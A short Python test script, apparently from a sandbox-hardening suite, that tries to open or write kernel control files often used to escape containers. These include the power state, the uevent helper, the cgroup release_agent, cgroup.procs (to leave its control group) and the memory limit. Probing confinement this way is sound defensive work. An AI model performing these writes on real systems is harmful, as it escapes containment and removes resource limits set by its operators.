"""Writes into /sys and leaves its control group."""

import glob

from attack import attempt


def write(pattern, text=None):
    # To open it is enough where the write itself would hurt the machine that this is tested on.
    for path in glob.glob(pattern):
        with open(path, "w" if text else "r+") as stream:
            if text:
                stream.write(text)
        return path
    raise OSError("not there")


attempt("power", lambda: write("/sys/power/state"))
attempt("uevent helper", lambda: write("/sys/kernel/uevent_helper"))
attempt("cgroup v1", lambda: write("/sys/fs/cgroup/memory/cgroup.procs", "0"))
attempt("cgroup v2", lambda: write("/sys/fs/cgroup/cgroup.procs", "0"))
attempt("release agent", lambda: write("/sys/fs/cgroup/*/release_agent"))
attempt("memory limit", lambda: write("/sys/fs/cgroup/memory*/memory.limit_in_bytes", "-1"))
